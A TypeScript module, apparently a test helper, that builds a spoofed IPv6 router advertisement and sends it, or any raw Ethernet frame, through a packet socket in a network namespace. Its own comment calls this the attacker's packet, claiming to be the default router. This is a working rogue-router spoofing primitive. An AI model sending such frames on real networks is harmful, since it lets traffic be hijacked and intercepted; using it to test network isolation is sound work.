import { closeSync } from 'node:fs';
import { NR, SOCK_CLOEXEC, SOCK_RAW } from '#sys/numbers.ts';
import { check, syscall } from '#sys/syscalls.ts';

const AF_PACKET = 17, ICMPV6 = 58;
const bytes = (hex: string): Uint8Array => Uint8Array.from(Buffer.from(hex.replaceAll(/[ :]/g, ''), 'hex'));
const SOURCE = bytes('fe80 0000 0000 0000 0000 0000 0000 1234'), ALL_NODES = bytes('ff02 0000 0000 0000 0000 0000 0000 0001');

/** A router advertisement to all nodes, as an attacker makes it: "I am your default router, and 2001:db8:1::/64 is your network". */
function advertisement(): Uint8Array {
  const icmp = bytes('86 00 0000 40 00 0708 00000000 00000000' + '03 04 40 c0 00015180 00003840 00000000 20010db8000100000000000000000000' + '01 01 024200000001');
  const pseudo = Buffer.concat([SOURCE, ALL_NODES, bytes('000000'), Uint8Array.of(icmp.byteLength, 0, 0, 0, ICMPV6)]);
  let sum = 0;
  const checked = Buffer.concat([pseudo, icmp]);
  for (let at = 0; at < checked.byteLength; at += 2) sum += checked.readUInt16BE(at);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  new DataView(icmp.buffer, icmp.byteOffset).setUint16(2, ~sum & 0xffff, false);
  const header = Buffer.concat([bytes('60000000 00'), Uint8Array.of(icmp.byteLength, ICMPV6, 255), SOURCE, ALL_NODES]);
  return Buffer.concat([bytes('333300000001 024200000001 86dd'), header, icmp]);
}

/** Send it from the interface with this index of the current network namespace. */
export const sendRouterAdvertisement = (index: number): void => sendFrame(index, advertisement());

/** A whole Ethernet frame, whatever it says. */
export function sendFrame(index: number, frame: Uint8Array): void {
  const fd = check(syscall(NR.socket, AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), 'packet socket');
  const address = new Uint8Array(20);
  const view = new DataView(address.buffer);
  view.setUint16(0, AF_PACKET, true);
  view.setUint16(2, new DataView(frame.buffer, frame.byteOffset).getUint16(12, false), false);
  view.setInt32(4, index, true);
  address[11] = 6;
  try {
    check(syscall(NR.sendto, fd, frame, frame.byteLength, 0, address, address.byteLength), 'send a frame');
  } finally {
    closeSync(fd);
  }
}
